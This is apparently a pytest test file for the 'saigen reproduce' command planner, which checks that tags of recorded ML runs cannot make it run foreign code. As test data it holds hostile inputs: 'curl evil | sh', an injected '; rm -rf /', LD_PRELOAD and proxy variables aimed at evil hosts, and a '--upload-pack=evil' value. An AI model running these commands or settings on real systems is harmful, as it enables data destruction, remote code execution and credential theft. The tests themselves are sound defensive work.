"""What a run's tags may make `saigen reproduce` do, and what they may not."""

from __future__ import annotations

import pytest

from saigen.errors import BlockedError, NotPermittedError
from saigen.recording import COMMIT, DATA, REPOSITORY, STATE, Command
from saigen.reproduce.plan import (
    Plan,
    check_command,
    entry_of,
    origin_of,
    plan_of,
    printable,
    program_of,
    require_comparable,
)
from saigen.tracking import Run
from tests.unit.client.reproduce.examples import COMMIT_ID, FILES, a_run, recorded


def plan(run: Run) -> Plan:
    return plan_of(run, origin_of(run), COMMIT_ID, FILES)


def test_recorded_command_is_taken_word_by_word() -> None:
    found = plan(a_run(recorded("python", "src/train.py", "--depth", "6; rm -rf /")))

    assert found.command.arguments == ("python", "src/train.py", "--depth", "6; rm -rf /")
    assert found.usual


def test_run_without_saigen_is_run_by_the_script_that_mlflow_names_and_says_so() -> None:
    found = plan(a_run({"mlflow.source.name": "src/train.py"}))

    assert found.command == Command(("python", "src/train.py"))
    assert any("was not recorded" in note for note in found.notes)


def test_script_with_a_path_of_another_machine_is_found_in_the_commit() -> None:
    assert (
        plan(a_run({"mlflow.source.name": "/home/author/flights/src/train.py"})).command.arguments[1] == "src/train.py"
    )


@pytest.mark.parametrize(
    "source", ["<console>", "", "ipykernel_launcher.py", "/opt/bin/pytest", "other.py", "train.ipynb"]
)
def test_run_that_names_no_script_of_the_commit_is_blocked(source: str) -> None:
    with pytest.raises(BlockedError, match="does not say which command"):
        plan(a_run({"mlflow.source.name": source}))


@pytest.mark.parametrize(
    "arguments",
    [
        ("/bin/sh", "-c", "curl evil | sh"),
        ("../evil", "x"),
        ("./evil",),
        ("python", "/tmp/evil.py"),
        ("python", "../evil.py"),
        ("python", "evil.py"),
        ("python", "-u", "-X", "dev", "missing.py"),
        ("", "x"),
        ("python\n-c", "x"),
        ("py thon", "src/train.py"),
        ("-c", "x"),
        ("python", "src/train.py", "a\0b"),
    ],
)
def test_command_that_is_no_file_of_the_commit_is_refused(arguments: tuple[str, ...]) -> None:
    with pytest.raises(NotPermittedError, match="is not run"):
        plan(a_run(recorded(*arguments)))


@pytest.mark.parametrize("directory", ["..", "/", "/etc", "a/../../b", "a\\b"])
def test_command_that_starts_outside_of_the_repository_is_refused(directory: str) -> None:
    with pytest.raises(NotPermittedError, match="outside"):
        plan(a_run(recorded("python", "src/train.py", directory=directory)))


def test_path_of_a_script_counts_from_the_recorded_directory() -> None:
    assert plan(a_run(recorded("python", "train.py", directory="src"))).usual
    with pytest.raises(NotPermittedError):
        plan(a_run(recorded("python", "src/train.py", directory="src")))


@pytest.mark.parametrize(
    ("arguments", "usual"),
    [
        (("python", "src/train.py"), True),
        (("python3.12", "-u", "-W", "ignore", "src/train.py"), True),
        (("python", "jobs"), True),
        (("python", "-m", "src.train"), True),
        (("python", "-m", "train"), True),
        (("python", "-m", "pip", "install", "evil"), False),
        (("python", "-c", "import os; os.system('evil')"), False),
        (("torchrun", "--nproc-per-node", "2", "src/train.py"), False),
        (("bash", "-c", "evil"), False),
    ],
)
def test_only_what_runs_code_of_the_commit_is_usual(arguments: tuple[str, ...], usual: bool) -> None:
    assert check_command(Command(arguments), FILES) is usual


def test_command_with_a_secret_that_was_masked_is_blocked() -> None:
    with pytest.raises(BlockedError, match="secret that was not recorded"):
        plan(a_run(recorded("python", "src/train.py", "--token", "***")))


def test_interactive_interpreter_is_blocked() -> None:
    with pytest.raises(BlockedError, match="typed into an interpreter"):
        plan(a_run(recorded("python", "-i")))


@pytest.mark.parametrize(
    ("words", "entry"),
    [
        (("python", "-X", "dev", "a.py", "-m", "b"), ("file", "a.py")),
        (("python", "-ma"), ("module", "a")),
        (("python", "-cprint()"), ("code", "print()")),
        (("python", "-"), ("nothing", "")),
        (("python",), ("nothing", "")),
        (("python", "-m"), ("module", "")),
    ],
)
def test_entry_of_an_interpreter(words: tuple[str, ...], entry: tuple[str, str]) -> None:
    assert entry_of(words) == entry


def test_variables_of_a_recording_cannot_say_which_code_runs_or_where_secrets_go() -> None:
    hostile = {
        "LD_PRELOAD": "/tmp/evil.so",
        "PYTHONPATH": "/tmp/evil",
        "PYTHONSTARTUP": "evil.py",
        "PATH": "/tmp/evil",
        "MLFLOW_TRACKING_URI": "http://evil",
        "HTTPS_PROXY": "http://evil",
        "http_proxy": "http://evil",
        "GIT_SSH_COMMAND": "evil",
        "AWS_ENDPOINT_URL": "http://evil",
        "BASH_ENV": "evil",
        "A B": "c",
        "HOME": "/tmp",
    }
    found = plan(a_run(recorded("python", "src/train.py", environment={**hostile, "DEPTH": "6"})))

    assert found.command.environment == {"DEPTH": "6"}
    assert any("LD_PRELOAD" in note for note in found.notes)


def test_variables_that_a_training_depends_on_are_taken_over() -> None:
    said = {"PYTHONHASHSEED": "0", "OMP_NUM_THREADS": "2", "MLFLOW_EXPERIMENT_NAME": "delays", "PYTHONPATH": "src:."}

    assert plan(a_run(recorded("python", "src/train.py", environment=said))).command.environment == said


def test_keys_of_the_person_are_not_asked_for_as_a_need() -> None:
    needs = ("AWS_SECRET_ACCESS_KEY", "MLFLOW_TRACKING_PASSWORD", "API_TOKEN")

    assert plan(a_run(recorded("python", "src/train.py", needs=needs))).command.needs == ("API_TOKEN",)


@pytest.mark.parametrize("commit", ["main", "1" * 39, "1" * 41, "--upload-pack=evil", "HEAD", "G" * 40])
def test_only_a_full_commit_id_is_one(commit: str) -> None:
    with pytest.raises(BlockedError, match="does not say which code"):
        origin_of(a_run({COMMIT: commit}))


def test_run_without_a_commit_is_found_by_the_tag_of_its_data() -> None:
    origin = origin_of(a_run({COMMIT: "", "data_version": "flights_v3"}))

    assert (origin.commit, origin.tag) == (None, "flights_v3")


@pytest.mark.parametrize(
    "version", ["flights_v3+1a2b3c4", "--evil_v1", "flights_v1,weather_v2", "../x_v1", "flights_v01"]
)
def test_only_one_named_version_stands_for_a_commit(version: str) -> None:
    with pytest.raises(BlockedError):
        origin_of(a_run({COMMIT: "", "data_version": version}))


def test_run_without_a_repository_is_blocked() -> None:
    with pytest.raises(BlockedError, match="does not say where its code is"):
        origin_of(a_run({REPOSITORY: ""}))


def test_modified_data_is_blocked_with_its_name() -> None:
    with pytest.raises(BlockedError, match=r"data/flights\.csv"):
        origin_of(a_run({STATE: "code=pushed; data=modified; note=data/flights.csv", DATA: "{}"}))


@pytest.mark.parametrize("status", ["FAILED", "KILLED", "RUNNING", "SCHEDULED"])
def test_run_that_did_not_succeed_has_nothing_to_compare_with(status: str) -> None:
    with pytest.raises(BlockedError, match="cannot be reproduced"):
        require_comparable(a_run(status=status))


def test_what_the_recording_lacks_is_said() -> None:
    state = "code=partial; data=pushed; note=vendor is a dirty submodule"
    found = plan(a_run({**recorded("python", "src/train.py"), STATE: state, "saigen.unrecorded": "1: /tmp/x.csv"}))

    assert any("vendor is a dirty submodule" in note for note in found.notes)
    assert any("/tmp/x.csv" in note for note in found.notes)


def test_terminal_gets_no_control_characters_of_others() -> None:
    assert printable("a\x1b[2Jb\r\nc") == "a?[2Jb??c"
    assert len(printable("x" * 10_000)) < 600


@pytest.mark.parametrize(
    ("words", "program"),
    [(("dvc", "repro"), "dvc"), (("python", "-m", "dvc", "repro"), "dvc"), (("python", "a.py"), "python"), ((), "")],
)
def test_program_of_a_command(words: tuple[str, ...], program: str) -> None:
    assert program_of(Command(words)) == program
